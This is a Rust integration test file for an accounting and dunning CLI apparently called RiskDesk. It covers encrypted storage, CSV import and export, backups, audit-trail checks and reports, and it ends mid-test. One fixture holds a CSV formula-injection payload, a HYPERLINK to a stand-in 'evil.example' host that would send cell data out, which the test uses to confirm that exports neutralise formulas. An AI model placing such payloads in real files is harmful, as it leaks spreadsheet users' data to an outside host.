//! CLI round trips through the real binary; keys go to a private test keychain (tests/common).

mod bank;
#[path = "../common/mod.rs"]
mod common;
mod ledger;
mod mail;
mod microsoft;
mod plans;
mod returns;
mod usage;

use common::{
    assert_ok, assert_refused, assert_says, cli, cli_closed_stdout, cli_ok, cli_stdin, demo_book,
    import_existing, new_book, pdf_text, stderr, stdout,
};

#[test]
fn demo_then_list_shows_the_demo_customers() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("demo.db");
    let out = cli_ok(&db, &["demo"]);
    assert!(stdout(&out).contains("recovery key"));
    let out = cli_ok(&db, &["customers", "list"]);
    let text = stdout(&out);
    assert!(text.contains("台北雲端科技股份有限公司"));
    assert!(text.contains("Pacific Northwest Dental Group"));
    assert!(text.contains("45 customers"));
    let out = cli(
        &db,
        &["customers", "list", "--json", "--status", "suspended"],
    );
    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(rows
        .as_array()
        .unwrap()
        .iter()
        .all(|r| r["status"] == "suspended"));
    assert!(!rows.as_array().unwrap().is_empty());
    // A second demo into the same file is refused.
    let out = cli(&db, &["demo"]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("empty database"));
}

#[test]
fn the_database_file_cannot_be_read_without_the_key() {
    let (dir, db) = demo_book("x.db");
    let bytes = std::fs::read(&db).unwrap();
    assert!(!bytes.starts_with(b"SQLite format 3"));
    // The key went to this test's private keychain, not the keychain of whoever runs it.
    let keys: Vec<_> = std::fs::read_dir(dir.path().join("test-keychain"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(keys.len(), 1, "{keys:?}");
    assert!(keys[0].ends_with("_x_db.key"), "{keys:?}");
}

#[test]
fn import_export_round_trip_and_bad_files_change_nothing() {
    let (dir, db) = new_book("io.db");
    let good = dir.path().join("good.csv");
    std::fs::write(
        &good,
        "legal_name,tenant_id,country,currency,credit_limit,status\n\
         Contoso Ltd,11111111-1111-4111-8111-111111111111,TW,TWD,100000,active\n\
         Fabrikam Inc,,US,USD,2500.50,prospect\n",
    )
    .unwrap();
    // The onboarding rules hold on this path: an active customer without its checks is
    // refused on its line, and nothing is written.
    let out = cli(&db, &["customers", "import", good.to_str().unwrap()]);
    assert_refused(&out, "good.csv:2 field status");
    assert!(!stdout(&cli(&db, &["customers", "list"])).contains("Contoso"));
    let prepaid = dir.path().join("prepaid.csv");
    std::fs::write(
        &prepaid,
        "legal_name,country,currency,status,payment_instrument
Card Shop,TW,TWD,active,prepaid_card
",
    )
    .unwrap();
    let out = cli(&db, &["customers", "import", prepaid.to_str().unwrap()]);
    assert_refused(&out, "prepaid.csv:2 field payment_instrument");
    // Brought in as an existing book, with a reason: each exception is recorded.
    let out = import_existing(cli, &db, good.to_str().unwrap(), "the book as it was");
    assert_ok(&out);
    assert!(stdout(&out).contains("2 created"));
    assert_says(&out, "1 onboarding exception recorded");
    let out = import_existing(cli, &db, good.to_str().unwrap(), "the book as it was");
    assert_says(&out, "0 created, 0 updated, 2 unchanged");

    let bad = dir.path().join("bad.csv");
    std::fs::write(
        &bad,
        "legal_name,country,currency,email\nNew Co,TW,TWD,ok@new.com\nBroken Co,TW,XXX,x@y\n",
    )
    .unwrap();
    let out = cli(&db, &["customers", "import", bad.to_str().unwrap()]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(err.contains("bad.csv:3 field currency"), "{err}");
    assert!(err.contains("bad.csv:3 field email"), "{err}");
    assert!(err.contains("nothing was imported"), "{err}");
    let list = stdout(&cli(&db, &["customers", "list"]));
    assert!(!list.contains("New Co"), "a bad file must write nothing");

    let export = dir.path().join("out.csv");
    cli_ok(&db, &["customers", "export", export.to_str().unwrap()]);
    let out = cli(&db, &["customers", "import", export.to_str().unwrap()]);
    assert_says(&out, "2 unchanged");
}

#[test]
fn audit_verify_catches_an_edited_row() {
    let (_dir, db) = demo_book("audit.db");
    let out = cli(&db, &["audit", "verify"]);
    assert!(out.status.success());
    assert!(stdout(&out).contains("intact"));

    // Edit a row with the key, the way someone with access to the file and keychain might.
    let key = stdout(&cli(&db, &["recovery-key"])).trim().to_string();
    let k = riskdesk_core::store::DbKey::parse(&key).unwrap();
    let conn = riskdesk_core::store::open(&db, &k).unwrap();
    conn.execute_batch(
        "DROP TRIGGER audit_rows_are_never_updated;
         UPDATE audit SET os_user = 'mallory' WHERE seq = 5;",
    )
    .unwrap();
    drop(conn);
    let out = cli(&db, &["audit", "verify"]);
    assert_refused(&out, "audit row 5");
}

/// A change from the command line is committed before the scores are brought up to date:
/// when scoring fails (a damaged stored setting), the change is kept, the command succeeds
/// and a warning says so; reading the scores writes nothing.
#[test]
fn a_change_is_kept_when_scoring_fails_after_it() {
    let (_dir, db) = demo_book("scoring.db");
    let key = stdout(&cli(&db, &["recovery-key"])).trim().to_string();
    let k = riskdesk_core::store::DbKey::parse(&key).unwrap();
    let history = || -> i64 {
        riskdesk_core::store::open(&db, &k)
            .unwrap()
            .query_row("SELECT count(*) FROM risk_history", [], |r| r.get(0))
            .unwrap()
    };
    let rows_before = history();
    cli_ok(&db, &["risk", "--json"]);
    assert_eq!(history(), rows_before, "reading the scores wrote nothing");
    let conn = riskdesk_core::store::open(&db, &k).unwrap();
    conn.execute(
            "INSERT INTO settings (key, value, updated_at) VALUES ('risk.weight.nonsense', '1', '2026-01-01T00:00:00Z')",
            [],
        )
        .unwrap();
    drop(conn);
    let out = cli_ok(
        &db,
        &[
            "rates",
            "set",
            "--on",
            "2026-11-02",
            "--from",
            "USD",
            "--to",
            "TWD",
            "--rate",
            "32.1",
        ],
    );
    assert!(
        stderr(&out).contains("the change is saved") && stderr(&out).contains("nonsense"),
        "{}",
        stderr(&out)
    );
    let list = stdout(&cli(&db, &["rates", "list"]));
    assert!(list.contains("1 USD = 32.1 TWD"), "{list}");
}

#[test]
fn backup_and_restore_round_trip() {
    let (dir, db) = demo_book("main.db");
    let backup = dir.path().join("backup.db");
    cli_ok(&db, &["backup", backup.to_str().unwrap()]);
    let key = stdout(&cli(&db, &["recovery-key"])).trim().to_string();

    // Restore onto another "computer": a new path with no key in the keychain.
    let elsewhere = dir.path().join("elsewhere.db");
    let out = cli(&elsewhere, &["restore", backup.to_str().unwrap()]);
    assert_refused(&out, "recovery key");
    // The key is never an argument: it is read from standard input.
    let out = cli(
        &elsewhere,
        &["restore", backup.to_str().unwrap(), "--recovery-key", &key],
    );
    assert!(!out.status.success());
    let restore = ["restore", backup.to_str().unwrap(), "--recovery-key"];
    let out = cli_stdin(&elsewhere, &restore, "0000-1111\n");
    assert!(!out.status.success());
    let out = cli_stdin(&elsewhere, &restore, &format!("{key}\n"));
    assert_ok(&out);
    assert!(stdout(&cli(&elsewhere, &["customers", "list"])).contains("45 customers"));
    // While another process has the book open (the window), a restore would move the file
    // it goes on writing to: refused, nothing changed.
    let k = riskdesk_core::store::DbKey::parse(&key).unwrap();
    let window = riskdesk_core::store::open(&elsewhere, &k).unwrap();
    let out = cli(&elsewhere, &["restore", backup.to_str().unwrap()]);
    assert_refused(
        &out,
        "is open in RiskDesk's window or another command: close it",
    );
    assert!(!dir.path().join("elsewhere.db.before-restore").exists());
    let left: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("restoring"))
        .collect();
    assert!(left.is_empty(), "the checked copy is removed: {left:?}");
    assert_eq!(riskdesk_core::customer::count(&window).unwrap(), 45);
    drop(window);
    // Restoring again keeps the database it replaces beside it.
    let out = cli_ok(&elsewhere, &["restore", backup.to_str().unwrap()]);
    assert_says(&out, "before-restore");
    assert!(dir.path().join("elsewhere.db.before-restore").exists());

    // Each is in the book's trail, where the window's reminder to back up counts from.
    use riskdesk_core::store::backups::{self, Kind};
    let last = |db: &std::path::Path| {
        let conn = riskdesk_core::store::open(db, &k).unwrap();
        backups::status(&conn, chrono::Utc::now()).unwrap()
    };
    let s = last(&db);
    let l = s.last.unwrap();
    assert_eq!(
        (l.kind, l.file),
        (Kind::Backup, backup.display().to_string())
    );
    assert_eq!((s.changes_since, s.due), (0, false));
    let s = last(&elsewhere);
    assert_eq!(s.last.map(|l| l.kind), Some(Kind::Restore));
    assert_eq!(s.changes_since, 0);
    // The reminder's days: a month, or refused with what is allowed.
    cli_ok(&db, &["settings", "set", "backup.remind_days", "30"]);
    assert!(stdout(&cli(&db, &["settings", "list"])).contains("backup.remind_days = 30"));
    for bad in ["366", "7.5", "a week"] {
        let out = cli(&db, &["settings", "set", "backup.remind_days", bad]);
        assert_refused(&out, "days from 0 (never remind) to 365");
    }
    assert_eq!(last(&db).remind_days, 30);
}

#[test]
fn errors_go_to_stderr_with_a_non_zero_exit_code() {
    let dir = tempfile::tempdir().unwrap();
    let out = cli(&dir.path().join("missing.db"), &["customers", "list"]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("no database"));
    assert!(stdout(&out).is_empty());
    // A paper that is neither A4 nor Letter is refused with the setting named.
    let db = dir.path().join("paper.db");
    cli_ok(&db, &["init"]);
    let out = cli(&db, &["settings", "set", "paper", "a5"]);
    assert_refused(&out, "paper: use a4 or letter");
    cli_ok(&db, &["settings", "set", "paper", "letter"]);
}

#[test]
fn the_demo_dunning_run_reaches_every_level_and_a_second_run_changes_nothing() {
    let (dir, db) = demo_book("dun.db");
    let out = cli_ok(&db, &["dunning", "plan", "--json"]);
    let plan: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let levels: std::collections::BTreeSet<i64> = plan["customers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["level"]["seq"].as_i64().unwrap())
        .collect();
    assert_eq!(levels.into_iter().collect::<Vec<_>>(), [1, 2, 3, 4, 5]);
    assert!(
        !plan["paused"].as_array().unwrap().is_empty(),
        "a dispute and a promise pause someone"
    );

    let letters = dir.path().join("letters");
    let fingerprint = plan["fingerprint"].as_str().unwrap().to_string();
    cli_ok(
        &db,
        &[
            "dunning",
            "run",
            "--out",
            letters.to_str().unwrap(),
            "--fingerprint",
            &fingerprint,
        ],
    );
    // The run's documents are in a folder of its own.
    let folders: Vec<std::path::PathBuf> = std::fs::read_dir(&letters)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(folders.len(), 1);
    assert!(folders[0]
        .file_name()
        .unwrap()
        .to_string_lossy()
        .starts_with("dunning-run-00001-"));
    let files: Vec<String> = std::fs::read_dir(&folders[0])
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(files.iter().any(|f| f.ends_with("all-letters.pdf")));
    assert!(files
        .iter()
        .any(|f| f.ends_with("partner-center-changes.csv")));
    assert!(files.iter().filter(|f| f.contains("-L")).count() >= 5);
    assert!(!files.iter().any(|f| f.ends_with(".part")));
    let before = stdout(&cli(&db, &["aging", "--json"]));

    let again = dir.path().join("again");
    let out = cli(&db, &["dunning", "run", "--out", again.to_str().unwrap()]);
    assert!(out.status.success());
    assert_says(&out, "nothing to do");
    assert!(!again.exists());
    assert_eq!(stdout(&cli(&db, &["aging", "--json"])), before);
    cli_ok(&db, &["audit", "verify"]);
}

#[test]
fn invoices_and_payments_import_all_or_nothing_and_idempotently() {
    let (dir, db) = new_book("ledger.db");
    let customers = dir.path().join("c.csv");
    std::fs::write(&customers, "legal_name,tenant_id,country,currency,payment_terms_days,status\nContoso Ltd,11111111-1111-4111-8111-111111111111,TW,TWD,30,active\n").unwrap();
    assert!(
        import_existing(cli, &db, customers.to_str().unwrap(), "the book as it was")
            .status
            .success()
    );
    let invoices = dir.path().join("inv.csv");
    std::fs::write(
        &invoices,
        "number,customer,issued_on,currency,description,quantity,unit_price\n\
         INV-1,Contoso Ltd,2026-09-01,TWD,Microsoft 365 E3,10,1000\n\
         INV-1,Contoso Ltd,2026-09-01,TWD,Azure plan,1,45000.50\n\
         INV-2,11111111-1111-4111-8111-111111111111,2026-10-01,TWD,Azure plan,1,30000\n",
    )
    .unwrap();
    let out = cli_ok(&db, &["invoices", "import", invoices.to_str().unwrap()]);
    assert_says(&out, "2 invoices created");
    let out = cli(&db, &["invoices", "import", invoices.to_str().unwrap()]);
    assert_says(&out, "0 invoices created, 2 unchanged");

    let payments = dir.path().join("pay.csv");
    std::fs::write(&payments, "reference,customer,received_on,amount,currency\nTX-1,Contoso Ltd,2026-10-10,\"60,000.50\",TWD\nTX-2,Nobody Inc,2026-10-11,5,TWD\n").unwrap();
    let out = cli(&db, &["payments", "import", payments.to_str().unwrap()]);
    assert_refused(&out, "pay.csv:3 field customer");
    std::fs::write(&payments, "reference,customer,received_on,amount,currency\nTX-1,Contoso Ltd,2026-10-10,\"60,000.50\",TWD\n").unwrap();
    cli_ok(&db, &["payments", "import", payments.to_str().unwrap()]);
    assert!(stdout(&cli(
        &db,
        &["payments", "import", payments.to_str().unwrap()]
    ))
    .contains("1 unchanged"));
    // INV-1 (NT$55,000.50) is paid; NT$5,000 of the payment went to INV-2.
    let aging: serde_json::Value =
        serde_json::from_slice(&cli(&db, &["aging", "--as-of", "2026-12-15", "--json"]).stdout)
            .unwrap();
    assert_eq!(aging["totals"][0]["total_minor"], 2_500_000);
    // INV-2 was due on 2026-10-31 (30 days terms): 45 days overdue, in the 31-60 bucket.
    assert_eq!(aging["rows"][0]["buckets"][2], 2_500_000);
    // The same day's open items for the accountant: INV-2 alone, partly paid; never over an
    // existing file.
    let items = db.with_file_name("open items.csv");
    let out = cli(
        &db,
        &[
            "aging",
            "--as-of",
            "2026-12-15",
            "--open-items",
            items.to_str().unwrap(),
        ],
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("1 open invoice written"),
        "{out:?}"
    );
    let text = std::fs::read_to_string(&items).unwrap();
    assert_eq!(text.lines().count(), 2, "{text}");
    assert!(text.contains(",INV-2,invoice,"), "{text}");
    assert!(
        text.contains(",TWD,30000.00,5000.00,25000.00,45,31-60,partly_paid,no"),
        "{text}"
    );
    let again = cli(&db, &["aging", "--open-items", items.to_str().unwrap()]);
    assert_refused(&again, "already exists");
    // An overpayment: INV-2 is paid and NT$5,000 is held for the customer, listed as credit
    // from the day it arrived.
    std::fs::write(
        &payments,
        "reference,customer,received_on,amount,currency\nTX-2,Contoso Ltd,2026-12-01,\"30,000\",TWD\n",
    )
    .unwrap();
    cli_ok(&db, &["payments", "import", payments.to_str().unwrap()]);
    let text = stdout(&cli(&db, &["aging", "--as-of", "2026-12-15"]));
    assert!(
        text.lines().nth(1).unwrap().ends_with("credit held"),
        "{text}"
    );
    let row = text.lines().find(|l| l.starts_with("Contoso Ltd")).unwrap();
    assert!(row.ends_with("NT$0       NT$5,000"), "{row}");
    let aging: serde_json::Value =
        serde_json::from_slice(&cli(&db, &["aging", "--as-of", "2026-12-15", "--json"]).stdout)
            .unwrap();
    assert_eq!(aging["totals"][0]["total_minor"], 0);
    assert_eq!(aging["totals"][0]["credit_minor"], 500_000);
    let before: serde_json::Value =
        serde_json::from_slice(&cli(&db, &["aging", "--as-of", "2026-11-30", "--json"]).stdout)
            .unwrap();
    assert_eq!(before["totals"][0]["credit_minor"], 0);
}

/// Issue 6, observation 8: the letters are made from the stored run, so a run whose
/// documents were lost after its commit (a crash, a full disk) is written again, the same.
#[test]
fn a_run_whose_documents_were_lost_is_reprinted_identically() {
    let (dir, db) = demo_book("reprint.db");
    let out_dir = dir.path().join("letters");
    // A customer to leave out that does not exist: refused, nothing booked or written.
    let typo = cli(
        &db,
        &[
            "dunning",
            "run",
            "--skip",
            "999999",
            "--out",
            out_dir.to_str().unwrap(),
        ],
    );
    assert_refused(&typo, "999999");
    assert!(!out_dir.exists());
    let runs = stdout(&cli(&db, &["dunning", "runs", "--json"]));
    assert_eq!(runs.trim(), "[]", "{runs}");
    cli_ok(&db, &["dunning", "run", "--out", out_dir.to_str().unwrap()]);
    let folder = std::fs::read_dir(&out_dir)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    // Each file's name and text (a PDF's as pdftotext gives it).
    let texts_of = |dir: &std::path::Path| -> Vec<(String, String)> {
        let mut v: Vec<(String, String)> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .map(|p| {
                let text = if p.extension().is_some_and(|e| e == "pdf") {
                    pdf_text(&p)
                } else {
                    std::fs::read_to_string(&p).unwrap()
                };
                (p.file_name().unwrap().to_string_lossy().into_owned(), text)
            })
            .collect();
        v.sort();
        v
    };
    let originals = texts_of(&folder);
    assert!(originals.len() > 5);
    let bytes_of = |dir: &std::path::Path| -> Vec<(String, Vec<u8>)> {
        let mut v: Vec<(String, Vec<u8>)> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .map(|p| {
                let bytes = std::fs::read(&p).unwrap();
                (p.file_name().unwrap().to_string_lossy().into_owned(), bytes)
            })
            .collect();
        v.sort();
        v
    };
    let original_bytes = bytes_of(&folder);
    // The machine "crashed" after the commit: no documents.
    std::fs::remove_dir_all(&folder).unwrap();
    let runs = stdout(&cli(&db, &["dunning", "runs"]));
    assert!(
        runs.contains("missing") && runs.contains("reprint 1"),
        "{runs}"
    );
    cli_ok(&db, &["dunning", "reprint", "1"]);
    assert_eq!(originals, texts_of(&folder));
    // Byte for byte: a reprint has the same SHA-256 as the first print.
    for ((name, first), (_, second)) in original_bytes.iter().zip(bytes_of(&folder).iter()) {
        assert!(first == second, "{name} differs from its first print");
    }
    assert!(stdout(&cli(&db, &["dunning", "runs"])).contains("files in"));
    // A settings change after the run does not change its letters.
    cli_ok(
        &db,
        &["settings", "set", "letterhead.name", "Someone Else Ltd"],
    );
    let other = dir.path().join("other");
    cli_ok(
        &db,
        &["dunning", "reprint", "1", "--out", other.to_str().unwrap()],
    );
    let combined = std::fs::read_dir(other.join(folder.file_name().unwrap()))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.to_string_lossy().ends_with("all-letters.pdf"))
        .unwrap();
    let text = pdf_text(&combined);
    assert!(text.contains("CloudBridge") && !text.contains("Someone Else"));
}

/// Issue 6, observation 4: dates out of range are refused with a clear message at every
/// entry point of the command line, and nothing panics.
#[test]
fn extreme_dates_are_refused_without_a_panic() {
    let (dir, db) = demo_book("dates.db");
    for args in [
        vec!["dunning", "run", "--as-of", "2099-01-01", "--out", "x"],
        vec!["aging", "--as-of", "+262142-12-31"],
        vec!["dunning", "plan", "--as-of=-0001-01-01"],
        vec![
            "statement",
            "--customer",
            "1",
            "--as-of",
            "1999-12-31",
            "--out",
            "s.pdf",
        ],
    ] {
        let out = cli(&db, &args);
        assert!(!out.status.success(), "{args:?}");
        let err = stderr(&out);
        assert!(!err.contains("panicked"), "{args:?}: {err}");
        assert!(
            err.contains("date") || err.contains("today"),
            "{args:?}: {err}"
        );
    }
    let invoices = dir.path().join("far.csv");
    std::fs::write(
        &invoices,
        "number,customer,issued_on,due_on,currency,description,unit_price,quantity\n\
         FAR-1,1,+262142-12-31,,TWD,x,1,1\n\
         FAR-2,1,2100-12-31,,TWD,x,1,1\n\
         FAR-3,1,2026-01-01,2026-02-01,TWD,x,92233720368547758.07,2\n",
    )
    .unwrap();
    let out = cli(&db, &["invoices", "import", invoices.to_str().unwrap()]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(!err.contains("panicked"), "{err}");
    assert!(err.contains("far.csv:2 field issued_on"), "{err}");
    assert!(
        err.contains("far.csv:3 field due_on") || err.contains("far.csv:3"),
        "{err}"
    );
    assert!(err.contains("far.csv:4"), "{err}");
}

/// Issue 6, observations 2 and 3: a partial file changes only its columns, and an export
/// carries no formula but imports back to the original text.
#[test]
fn partial_imports_keep_other_fields_and_exports_carry_no_formulas() {
    let (dir, db) = new_book("csv.db");
    let full = dir.path().join("full.csv");
    std::fs::write(
        &full,
        "legal_name,country,currency,tenant_id,credit_limit,status,phone,notes\n\
         \"=HYPERLINK(\"\"http://evil.example\"\"&A1;\"\"click\"\")\",TW,TWD,11111111-1111-4111-8111-111111111111,150000,active,+886 2 1234 5678,@SUM(1+1)\n",
    )
    .unwrap();
    let out = import_existing(cli, &db, full.to_str().unwrap(), "the book as it was");
    assert_ok(&out);
    let partial = dir.path().join("partial.csv");
    std::fs::write(
        &partial,
        "legal_name,country,currency,tenant_id\n\
         \"=HYPERLINK(\"\"http://evil.example\"\"&A1;\"\"click\"\")\",TW,TWD,11111111-1111-4111-8111-111111111111\n",
    )
    .unwrap();
    cli_ok(&db, &["customers", "import", partial.to_str().unwrap()]);
    let list: serde_json::Value =
        serde_json::from_slice(&cli(&db, &["customers", "list", "--json"]).stdout).unwrap();
    let c = &list[0];
    assert_eq!(c["status"], "active", "{c}");
    assert_eq!(c["credit_limit"]["minor"], 15_000_000, "{c}");
    let export = dir.path().join("export.csv");
    cli_ok(&db, &["customers", "export", export.to_str().unwrap()]);
    let text = std::fs::read_to_string(&export).unwrap();
    let mut rdr = csv::Reader::from_reader(text.as_bytes());
    for rec in rdr.records() {
        for cell in rec.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {text}"
            );
        }
    }
    assert!(text.contains("'=HYPERLINK") && text.contains("'@SUM(1+1)") && text.contains("'+886"));
    // Importing the export back changes nothing: the apostrophes come off again.
    let out = cli_ok(&db, &["customers", "import", export.to_str().unwrap()]);
    assert_says(&out, "1 unchanged");
}

/// Issue 9: `risk` and `report risk` from the CLI: the planted risks first, the reports in
/// both languages with their figures, and bad arguments refused with nothing written.
#[test]
fn risk_reports_are_written_from_the_cli_in_both_languages() {
    let (dir, db) = demo_book("risk.db");
    let out = cli_ok(&db, &["risk", "--json"]);
    let scores: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let list = scores.as_array().unwrap();
    let nimbus = list
        .iter()
        .find(|s| s["name"] == "Nimbus Startup Studio Pte. Ltd.")
        .unwrap();
    assert_eq!(nimbus["windows"].as_array().unwrap().len(), 1);
    assert_eq!(nimbus["exposure"]["committed_minor"], 11 * 25 * 3_000);
    let id = nimbus["customer_id"].as_i64().unwrap().to_string();

    let portfolio = dir.path().join("portfolio.pdf");
    cli_ok(
        &db,
        &["report", "risk", "--out", portfolio.to_str().unwrap()],
    );
    let text = pdf_text(&portfolio);
    assert!(text.contains("Portfolio risk report"));
    // Every customer scored (closed ones are not).
    assert!(
        text.contains(&format!("{} customers", list.len())),
        "{text}"
    );
    assert!(text.contains("This is the first portfolio report"));
    // The second report compares with the first.
    cli_ok(
        &db,
        &["report", "risk", "--out", portfolio.to_str().unwrap()],
    );
    let since = pdf_text(&portfolio);
    assert!(since.contains("Since the last report ("), "{since}");
    assert!(
        since.contains(" UTC): "),
        "the time as a reader says it: {since}"
    );

    let customer = dir.path().join("nimbus-zh.pdf");
    cli_ok(
        &db,
        &[
            "report",
            "risk",
            "--customer",
            &id,
            "--lang",
            "zh-TW",
            "--out",
            customer.to_str().unwrap(),
        ],
    );
    let text = pdf_text(&customer);
    assert!(text.contains("客戶風險報告"));
    assert!(text.contains("Nimbus Startup Studio Pte. Ltd."));
    assert!(text.contains("S$8,250.00"));

    let bad = dir.path().join("bad.pdf");
    for args in [
        vec![
            "report",
            "risk",
            "--lang",
            "fr",
            "--out",
            bad.to_str().unwrap(),
        ],
        vec![
            "report",
            "risk",
            "--customer",
            "0",
            "--out",
            bad.to_str().unwrap(),
        ],
        vec![
            "report",
            "risk",
            "--customer",
            "9999",
            "--out",
            bad.to_str().unwrap(),
        ],
    ] {
        let out = cli(&db, &args);
        assert!(!out.status.success(), "{args:?}");
        assert!(!bad.exists(), "{args:?}");
    }
}

/// `riskdesk dunning run ... | true` booked the run and panicked with 0 of its documents
/// written; `init | head -3` panicked after creating the database. A closed output now ends
/// a command quietly, after its work and its documents.
#[test]
fn a_closed_output_ends_a_command_quietly_after_its_work() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("pipe.db");
    let (status, err) = cli_closed_stdout(&db, &["init"]);
    assert!(status.success(), "{err}");
    assert!(!err.contains("panicked"), "{err}");
    assert!(db.exists());
    let db = dir.path().join("pipe-demo.db");
    cli_ok(&db, &["demo"]);
    let out_dir = dir.path().join("letters");
    let (status, err) =
        cli_closed_stdout(&db, &["dunning", "run", "--out", out_dir.to_str().unwrap()]);
    assert!(status.success(), "{err}");
    assert!(!err.contains("panicked"), "{err}");
    let runs = stdout(&cli(&db, &["dunning", "runs"]));
    assert!(
        !runs.contains("missing"),
        "every document was written: {runs}"
    );
    let (status, err) = cli_closed_stdout(&db, &["customers", "list"]);
    assert!(status.success() && !err.contains("panicked"), "{err}");
    // The listings of this session's commands too (the demo has bank lines and a plan).
    for args in [
        &["bank", "lines"][..],
        &["plans", "list"],
        &["mail", "log"],
        &["payments", "list", "--customer", "1"],
        // The risk list and its evidence (look-alikes, contact people).
        &["risk"],
    ] {
        let (status, err) = cli_closed_stdout(&db, args);
        assert!(
            status.success() && !err.contains("panicked"),
            "{args:?}: {err}"
        );
    }
    // A payment taken back with nowhere to say so: still recorded.
    let listed: serde_json::Value = serde_json::from_slice(
        &cli(&db, &["payments", "list", "--customer", "1", "--json"]).stdout,
    )
    .unwrap();
    let paid = listed
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["kind"] == "payment" && p["returned_on"].is_null())
        .expect("the demo's first customer has paid");
    let (id, on) = (
        paid["id"].to_string(),
        paid["received_on"].as_str().unwrap(),
    );
    let (status, err) = cli_closed_stdout(
        &db,
        &[
            "payments", "return", &id, "--on", on, "--reason", "recalled",
        ],
    );
    assert!(status.success() && !err.contains("panicked"), "{err}");
    let after = stdout(&cli(&db, &["payments", "list", "--customer", "1"]));
    assert!(after.contains(&format!("recalled on {on}")), "{after}");
}

/// Every id given on the command line must exist: a clear error, nothing done.
#[test]
fn an_id_that_does_not_exist_is_an_error_not_an_empty_answer() {
    let (dir, db) = demo_book("ids.db");
    let out = cli(&db, &["risk", "--customer", "999999"]);
    assert_refused(&out, "999999");
    cli_ok(&db, &["risk", "--customer", "1"]);
    let report = dir.path().join("r.pdf");
    let out = cli(
        &db,
        &[
            "report",
            "risk",
            "--out",
            report.to_str().unwrap(),
            "--customer",
            "999999",
        ],
    );
    assert!(!out.status.success());
    assert!(!report.exists());
}

/// Every file error names its path: a folder given to an import, an output in a folder
/// that does not exist.
#[test]
fn file_errors_name_their_path() {
    let (dir, db) = demo_book("paths.db");
    let folder = dir.path().join("a-folder");
    std::fs::create_dir(&folder).unwrap();
    let f = folder.to_str().unwrap();
    for args in [
        vec!["customers", "import", f],
        vec!["invoices", "import", f],
        vec!["payments", "import", f],
        vec!["usage", "import", f],
        vec!["activity", "import", f],
        vec!["notices", "import", f],
    ] {
        let out = cli(&db, &args);
        assert!(!out.status.success(), "{args:?}");
        assert!(
            stderr(&out).contains("a-folder: is a folder"),
            "{args:?}: {}",
            stderr(&out)
        );
    }
    let missing = dir.path().join("no-such-folder").join("x.pdf");
    let m = missing.to_str().unwrap();
    for args in [
        vec!["statement", "--customer", "1", "--out", m],
        vec!["letter", "policy", "--customer", "1", "--out", m],
        vec!["report", "risk", "--out", m],
    ] {
        let out = cli(&db, &args);
        assert!(!out.status.success(), "{args:?}");
        assert!(
            stderr(&out).contains("no-such-folder"),
            "{args:?}: {}",
            stderr(&out)
        );
    }
}

/// A restore with the wrong key says so in RiskDesk's words only (SQLCipher printed three
/// "hmac check failed" lines before it).
#[test]
fn a_wrong_key_restore_says_so_in_one_message() {
    let dir = tempfile::tempdir().unwrap();
    let a = dir.path().join("a.db");
    cli_ok(&a, &["init"]);
    let backup = dir.path().join("a.bak");
    cli_ok(&a, &["backup", backup.to_str().unwrap()]);
    // Another database, another key: its key does not open the backup.
    let b = dir.path().join("b.db");
    cli_ok(&b, &["init"]);
    let out = cli(&b, &["restore", backup.to_str().unwrap()]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(err.contains("cannot be opened with this key"), "{err}");
    assert!(
        !err.contains("hmac") && !err.contains("ERROR CORE"),
        "{err}"
    );
}

/// Every command that reads a file, given one that never ends (a device, as the wrong file
/// chosen would be): refused at its kind's limit with a message naming it, never read until
/// the memory runs out; the book unchanged.
#[cfg(unix)]
#[test]
fn files_that_never_end_are_refused_at_their_limit() {
    let (_dir, db) = new_book("endless.db");
    let audit = |db: &std::path::Path| stdout(&cli(db, &["audit", "verify"]));
    let before = audit(&db);
    assert!(before.starts_with("audit trail intact: "), "{before}");
    for args in [
        &["customers", "import", "/dev/zero"][..],
        &["invoices", "import", "/dev/zero"],
        &["payments", "import", "/dev/zero"],
        &["microsoft", "import", "/dev/zero"],
        &["usage", "import", "/dev/zero"],
        &["activity", "import", "/dev/zero"],
        &["notices", "import", "/dev/zero"],
        &["bank", "import", "/dev/zero", "--account", "E.SUN"],
        &["settings", "set", "letterhead.logo", "/dev/zero"],
    ] {
        let out = common::cli_within(60, &db, args);
        assert!(!out.status.success(), "{args:?}");
        let err = stderr(&out);
        assert!(
            ["at most", "larger than", "longer than"]
                .iter()
                .any(|w| err.contains(w)),
            "{args:?}: {err}"
        );
    }
    assert_eq!(audit(&db), before);
}

/// Why the window takes its locks again after every file dialog: on Linux and macOS a
/// file's locks are the process's, and closing any descriptor of the file drops them all
/// (GTK's file dialog opens the files of the folder it shows). A command run then takes
/// the book for unused when it closes and deletes the WAL the window still has open.
/// Connections opened afresh (`store::reopen`, as `AppState::hold_locks_again` does) hold
/// them again, and the command leaves the WAL alone.
#[cfg(unix)]
#[test]
fn a_book_whose_file_was_read_elsewhere_in_the_process_is_opened_again_to_keep_its_locks() {
    use std::os::unix::fs::MetadataExt;
    let (dir, db) = demo_book("locks.db");
    let key = stdout(&cli(&db, &["recovery-key"])).trim().to_string();
